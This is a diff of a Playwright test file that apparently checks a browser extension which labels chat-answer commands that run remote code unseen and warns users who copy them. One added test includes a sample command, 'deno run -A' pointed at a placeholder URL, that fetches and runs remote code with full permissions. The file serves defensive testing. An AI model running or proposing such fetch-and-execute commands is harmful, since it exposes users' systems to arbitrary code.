@@ -1,46 +1,27 @@
-import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+import { beforeAll, describe, expect, it } from "vitest";
 import type { Page } from "playwright-core";
 import { app, bubble, codeBlock, PIPE, turn } from "./support/page.js";
-import { launch, Ui, type Browser } from "./support/chromium.js";
-import { startSite, type Site } from "./support/site.js";
+import { Ui } from "./support/chromium.js";
+import { share } from "./support/shared.js";
 
 /** What goes along when a person copies, and what a person is told of it. */
 const FOUND = "This command downloads a script and runs it unseen";
 const TURNS = [bubble("u1", "How?"), turn({ id: "a1", html: `<p>Run this:</p>${codeBlock(PIPE)}<p>Then look.</p>${codeBlock("ls -l")}` })];
 
-let site: Site;
-let browser: Browser;
+const at = share({ sheet: true, device: true });
 let page: Page;
 let ui: Ui;
 
-beforeAll(async () => {
-  site = await startSite();
-  browser = await launch(site, { sheet: true });
-  await browser.context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: "https://chatgpt.com" });
-  const options = await browser.options();
-  await options.check("#mode-device");
-  await options.waitForSelector("#mode-result[data-tone=ok]");
-  await options.close();
-});
-afterAll(async () => {
-  await browser.close();
-  await site.close();
-});
-afterEach(async () => {
-  await page.close();
-});
+beforeAll(() => at.browser.context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: "https://chatgpt.com" }));
 
 async function open(): Promise<void> {
-  site.pages.set("/c/1", app(TURNS));
-  page = await browser.context.newPage();
-  await page.goto("https://chatgpt.com/c/1");
+  ({ page, ui } = await at.open(app(TURNS)));
   // As the site does it: its buttons write, and no `copy` event is fired.
   await page.evaluate(() => {
     for (const button of document.querySelectorAll("pre button")) {
       button.addEventListener("click", () => void navigator.clipboard.writeText(button.closest("pre")!.querySelector("code")!.textContent ?? ""));
     }
   });
-  ui = await Ui.of(page);
   await ui.untilLabel(FOUND);
 }
 
@@ -96,6 +77,13 @@ describe("a marked command that is copied before its evidence was opened", () =>
     expect(await notice()).toBeNull();
   });
 
+  it("is told alone, whatever else the answer holds", async () => {
+    ({ page, ui } = await at.open(app([turn({ id: "a1", html: codeBlock(PIPE) + codeBlock("deno run -A https://x.example/y.ts") })])));
+    await ui.untilLabel("2 commands here run code unseen");
+    await page.click("pre:last-of-type button");
+    await expect.poll(notice).toContain("This command runs a program straight from an address");
+  });
+
   it("is told where the selection ends, by key", async () => {
     await open();
     await page.evaluate(() => getSelection()!.selectAllChildren(document.querySelector("pre code")!));
@@ -133,8 +121,8 @@ describe("a marked command that is copied before its evidence was opened", () =>
   });
 
   it("is told a moment later where it was copied before it was assessed", async () => {
-    site.pages.set("/c/1", app([turn({ id: "a1", html: `<p>Run this:</p>${codeBlock(PIPE)}`, streaming: true })]));
-    page = await browser.context.newPage();
+    at.site.pages.set("/c/1", app([turn({ id: "a1", html: `<p>Run this:</p>${codeBlock(PIPE)}`, streaming: true })]));
+    page = await at.browser.context.newPage();
     await page.goto("https://chatgpt.com/c/1", { waitUntil: "commit" });
     ui = await Ui.of(page);
     await ui.until((labels) => labels.length === 1);
